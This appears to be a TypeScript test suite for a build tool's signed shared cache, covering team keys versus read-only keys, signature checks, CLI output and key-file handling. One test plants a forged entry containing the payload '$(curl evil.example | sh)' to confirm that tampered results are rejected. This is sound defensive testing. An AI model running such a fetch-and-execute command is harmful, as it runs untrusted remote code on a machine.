// A team's read key: machines given it find, check and reuse the team's results, and can write none that any
// teammate's lookup takes; the team's key signs with Ed25519 keys derived from it.
import { strict as assert } from 'node:assert';
import { execFileSync } from 'node:child_process';
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { main } from '../../src/cli/main';
import { readEntrySync, writeEntry } from '../../src/engine/run/io/cacheEntries';
import { trimCopies } from '../../src/engine/run/io/cacheTrim';
import { readKeyText, secretKeys, teamKeys, teamKeysOf } from '../../src/engine/run/io/entryKeys';
import { sharedCacheKey, writesSharedCache } from '../../src/engine/run/io/sharedCacheSource';
import { KEY, sharedCacheFixture, withEnv } from './sharedCacheFixture';

const OTHER = 'c'.repeat(64);

describe("node cache: a team's read key", () => {
  describe('the keys', () => {
    it("checks what the team's key signed, and nothing else; signs nothing itself", () => {
      const team = teamKeys(KEY);
      const reader = teamKeysOf(readKeyText(KEY))!;
      assert.equal(reader.names, team.names, 'names the entries alike');
      assert.equal(reader.sign, undefined);
      fc.assert(
        fc.property(fc.string(), fc.string(), (text, other) => {
          const signature = team.sign!(text);
          assert.ok(reader.verify(text, signature) && team.verify(text, signature));
          if (other !== text) assert.ok(!reader.verify(other, signature), 'another text');
          assert.ok(!reader.verify(text, teamKeys(OTHER).sign!(text)), "another team's key");
        }),
        { numRuns: 50 },
      );
    });

    it("names entries with a secret of its own, not the team's key nor what would give the signing key", () => {
      const team = teamKeys(KEY);
      assert.match(team.names, /^[0-9a-f]{64}$/);
      assert.notEqual(team.names, KEY);
      assert.notEqual(teamKeys(OTHER).names, team.names);
      // An HMAC under the naming secret, what a read key's holder can make, is no signature.
      const text = '{"key":"k"}';
      assert.ok(!team.verify(text, secretKeys(team.names).sign!(text)));
      assert.ok(!team.verify(text, secretKeys(KEY).sign!(text)));
    });

    it('reads a key file as the team key or a read key, and anything else as neither', () => {
      assert.equal(teamKeysOf(`  ${KEY}\n`)?.names, teamKeys(KEY).names);
      const [word, names, publicKey] = readKeyText(KEY).trim().split(' ');
      assert.equal(word, 'maestro-dag-read-key');
      for (const text of [
        '',
        'not a key',
        KEY.slice(1),
        `${KEY} ${KEY}`,
        `${word} ${names}`,
        `${word} ${names} ${publicKey.toUpperCase()}`,
        `other ${names} ${publicKey}`,
      ])
        assert.equal(teamKeysOf(text), undefined, text);
      assert.ok(teamKeysOf(`${word}\n${names}\n${publicKey}\n`), 'on lines of their own');
    });
  });

  describe('in runs', () => {
    const fixture = sharedCacheFixture();
    const { clone, run, team } = fixture;
    let dir: string;
    beforeEach(() => {
      dir = fixture.dir();
      writeFileSync(join(dir, 'dev.key'), readKeyText(KEY));
    });
    const reader = () => ({ folder: join(dir, 'team'), keyFile: join(dir, 'dev.key') });
    const listing = () => readdirSync(join(dir, 'team'), { recursive: true }).sort();
    const entries = () => readdirSync(join(dir, 'team')).filter((f) => f.endsWith('.json'));

    it("reuses the team's results and keeps its own in the user's cache alone, whatever the settings say", async () => {
      const ana = clone('ana/project');
      await run(ana.path, 'ana', team());
      const before = listing();
      const bob = clone('bob/project');
      const reused = await run(bob.path, 'bob', reader());
      assert.deepEqual([reused.status, reused.outputs, reused.cached?.shared, bob.ran()], ['completed', { v: 'one' }, true, 0]);
      assert.equal(readFileSync(join(bob.root, 'flows', 'out', 'app.txt'), 'utf8'), 'one', 'its artifacts put back');
      writeFileSync(join(bob.root, 'flows', 'src', 'a.txt'), 'two');
      const fresh = await run(bob.path, 'bob', { ...reader(), readOnly: false });
      assert.deepEqual([fresh.outputs, bob.ran()], [{ v: 'two' }, 1]);
      assert.deepEqual(listing(), before, 'the shared folder as it was');
      const again = await run(bob.path, 'bob', null);
      assert.deepEqual([again.outputs, bob.ran()], [{ v: 'two' }, 1], "kept in Bob's own cache");
      assert.deepEqual([writesSharedCache(reader()), writesSharedCache(team()), writesSharedCache({ ...team(), readOnly: true })], [false, true, false]);
    });

    it("says at a CLI run's end how many results came from the team's shared cache", async () => {
      const ana = clone('ana/project');
      await run(ana.path, 'ana', team());
      const bob = clone('bob/project');
      let out = '';
      const io = { out: (t: string) => (out += t), err: (t: string) => (out += t), isTTY: false };
      const env = {
        MAESTRO_STATE_DIR: join(dir, 'users', 'bob'),
        MAESTRO_CACHE_SHARED_DIR: join(dir, 'team'),
        MAESTRO_CACHE_SHARED_KEY_FILE: join(dir, 'dev.key'),
      };
      await withEnv(env, async () => {
        assert.equal(await main(['run', bob.path, '--runs-dir', join(dir, 'runs', 'bob')], io), 0);
        assert.match(out, /✓ Build completed in \S+, 1 of 1 nodes reused \(1 from the team's shared cache\)/);
        out = '';
        assert.equal(await main(['run', bob.path, '--runs-dir', join(dir, 'runs', 'bob')], io), 0);
        assert.match(out, /✓ Build completed in \S+, 1 of 1 nodes reused {2}\(run /, "then from Bob's own");
      });
    });

    it('never reuses an entry changed by whoever holds the read key, however it is signed again', async () => {
      const ana = clone('ana/project');
      await run(ana.path, 'ana', team());
      const [name] = entries();
      const path = join(dir, 'team', name);
      const entry = readEntrySync(path)!;
      const forged = { ...entry, outputs: { v: '$(curl evil.example | sh)' } };
      const forgeries = [
        () => writeFileSync(path, JSON.stringify(forged)),
        // Signed as a user's own entry is, with the secret the read key holds.
        () => writeEntry(path, forged, secretKeys(teamKeysOf(readKeyText(KEY))!.names)),
        () => writeEntry(path, forged, teamKeys(OTHER)),
      ];
      for (const [i, forge] of forgeries.entries()) {
        forge();
        assert.equal(readEntrySync(path)?.outputs.v, forged.outputs.v);
        const bob = clone(`bob${i}/project`);
        const result = await run(bob.path, `bob${i}`, reader());
        assert.deepEqual([result.outputs, bob.ran()], [{ v: 'one' }, 1], `forgery ${i} is not reused`);
      }
    });

    it('trims nothing with a read key; the team key trims', async () => {
      const ana = clone('ana/project');
      await run(ana.path, 'ana', team());
      const before = listing();
      await trimCopies(join(dir, 'team'), 0, { keys: teamKeysOf(readKeyText(KEY)), maxResults: 1, graceMs: 0 });
      assert.deepEqual(listing(), before);
      await trimCopies(join(dir, 'team'), 0, { keys: teamKeys(KEY), maxResults: 1, graceMs: 0 });
      assert.equal(readEntrySync(join(dir, 'team', entries()[0]))?.copies, undefined, 'its copies dropped');
    });

    it('never waits on a key file that is a named pipe: the shared cache is not used, and the settings check says why', function () {
      if (process.platform === 'win32') this.skip();
      execFileSync('mkfifo', [join(dir, 'pipe.key')]);
      const found = sharedCacheKey({ folder: join(dir, 'team'), keyFile: join(dir, 'pipe.key') });
      assert.match('problem' in found ? found.problem : '', /pipe\.key cannot be read \(it is a named pipe, not a file\)/);
    });

    it("is made from the team's key by 'runs team-key --read-only', never over a file, never from a read key", async () => {
      let out = '';
      const io = { out: (t: string) => (out += t), err: (t: string) => (out += t), isTTY: false };
      const made = join(dir, 'made.key');
      assert.equal(await main(['runs', 'team-key', '--read-only', join(dir, 'team.key'), made], io), 0);
      assert.match(out, /^made the read key of .*team\.key in .*made\.key: machines given it reuse the team's results and keep none there\n$/);
      assert.equal(readFileSync(made, 'utf8'), readKeyText(KEY));
      out = '';
      assert.equal(await main(['runs', 'team-key', '--read-only', made, join(dir, 'again.key')], io), 1);
      assert.match(out, /made\.key holds a read key: a read key is made from the team's key/);
      out = '';
      writeFileSync(join(dir, 'not.key'), 'not a key');
      assert.equal(await main(['runs', 'team-key', '--read-only', join(dir, 'not.key'), join(dir, 'again.key')], io), 1);
      assert.match(out, /not\.key does not hold a team's key \(64 hexadecimal digits\): a read key is made from the team's key/);
      out = '';
      assert.equal(await main(['runs', 'team-key', '--read-only', dir, join(dir, 'again.key')], io), 1);
      assert.match(out, /cannot be read \(it is a folder, not a file\)/);
      out = '';
      assert.equal(await main(['runs', 'team-key', '--read-only', join(dir, 'team.key'), made], io), 1);
      assert.match(out, /made\.key exists/);
    });

    it("says, in 'runs team-settings', which key the environment names and how many results it finds signed", async () => {
      const ana = clone('ana/project');
      await run(ana.path, 'ana', team());
      let out = '';
      const io = { out: (t: string) => (out += t), err: (t: string) => (out += t), isTTY: false };
      const said = async (keyFile: string) => {
        out = '';
        await withEnv({ MAESTRO_CACHE_SHARED_DIR: join(dir, 'team'), MAESTRO_CACHE_SHARED_KEY_FILE: keyFile }, async () => {
          assert.equal(await main(['runs', 'team-settings'], io), 0);
        });
        return out.split('\n')[1];
      };
      assert.equal(
        await said(join(dir, 'dev.key')),
        'MAESTRO_CACHE_SHARED_KEY_FILE holds a read key (runs reuse results and keep none there): 1 of its 1 result signed with it',
      );
      assert.equal(
        await said(join(dir, 'team.key')),
        "MAESTRO_CACHE_SHARED_KEY_FILE holds the team's key (runs keep results there): 1 of its 1 result signed with it",
      );
      writeFileSync(join(dir, 'old.key'), readKeyText(OTHER));
      assert.match(await said(join(dir, 'old.key')), /: 0 of its 1 result signed with it$/);
      assert.match(await said(join(dir, 'none.key')), /none\.key cannot be read \(there is no such file\)/);
    });

    it("forgets, with a read key, the results another key signed and an older version's ('runs forget --shared --other-keys')", async () => {
      const ana = clone('ana/project');
      await run(ana.path, 'ana', team());
      writeFileSync(join(dir, 'old.key'), OTHER);
      writeFileSync(join(ana.root, 'flows', 'src', 'a.txt'), 'two');
      await run(ana.path, 'ana', { folder: join(dir, 'team'), keyFile: join(dir, 'old.key') });
      // Kept by the version before read keys, whose entries no lookup reads.
      writeFileSync(join(dir, 'team', `${'7'.repeat(64)}.json`), JSON.stringify({ version: 4, runId: 'r', mac: '0'.repeat(64) }));
      assert.equal(entries().length, 3);
      const io = { out: () => undefined, err: () => undefined, isTTY: false };
      await withEnv({ MAESTRO_CACHE_SHARED_DIR: join(dir, 'team'), MAESTRO_CACHE_SHARED_KEY_FILE: join(dir, 'dev.key') }, async () => {
        assert.equal(await main(['runs', 'forget', '--shared', '--other-keys'], io), 0);
      });
      assert.equal(entries().length, 1);
      const bob = clone('bob/project');
      assert.equal((await run(bob.path, 'bob', reader())).cached?.shared, true, "the team key's result stays");
    });
  });
});
